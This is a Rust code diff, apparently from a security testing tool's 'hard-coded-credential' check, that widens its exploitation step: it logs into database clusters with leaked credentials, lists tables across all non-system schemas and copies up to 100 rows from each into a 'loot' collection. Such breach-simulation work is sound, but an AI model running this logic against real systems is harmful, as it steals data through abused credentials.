@@ -21,6 +21,10 @@ const SLUG: &str = "hard-coded-credential";
 /// Tables an attacker would read at most.
 const MOST_TABLES: usize = 24;
 
+/// Which tables are there, beside the server's own.
+const TABLES: &str = "SELECT table_schema, table_name FROM information_schema.tables \
+    WHERE table_schema NOT IN ('information_schema', 'mysql', 'performance_schema', 'sys')";
+
 fn check(app: &App) -> Vec<Finding> {
     app.code.secrets.iter().map(|secret| finding(app, secret)).collect()
 }
@@ -90,7 +94,7 @@ fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut 
         let Some(cluster) = cluster_opened(app, secret) else { continue };
         let user = secret.user.as_deref().unwrap_or("admin");
         let id = cluster.id.to_string();
-        let tables = match target.database(&id, user, &secret.value, "SHOW TABLES") {
+        let tables = match target.database(&id, user, &secret.value, TABLES) {
             Ok(tables) => tables,
             Err(error) => {
                 outcome.steps.push(format!("log-in to {} as {user}: {error}", cluster.id.logical));
@@ -104,8 +108,8 @@ fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut 
             secret.place,
             tables.len()
         ));
-        for table in tables.iter().filter_map(|row| row.first()).take(MOST_TABLES) {
-            match target.database(&id, user, &secret.value, &format!("SELECT * FROM `{table}` LIMIT 100")) {
+        for table in tables.iter().filter_map(|row| Some(format!("`{}`.`{}`", row.first()?, row.get(1)?))).take(MOST_TABLES) {
+            match target.database(&id, user, &secret.value, &format!("SELECT * FROM {table} LIMIT 100")) {
                 Ok(rows) => outcome.loot.extend(rows.into_iter().flatten()),
                 Err(error) => outcome.failed(&error),
             }
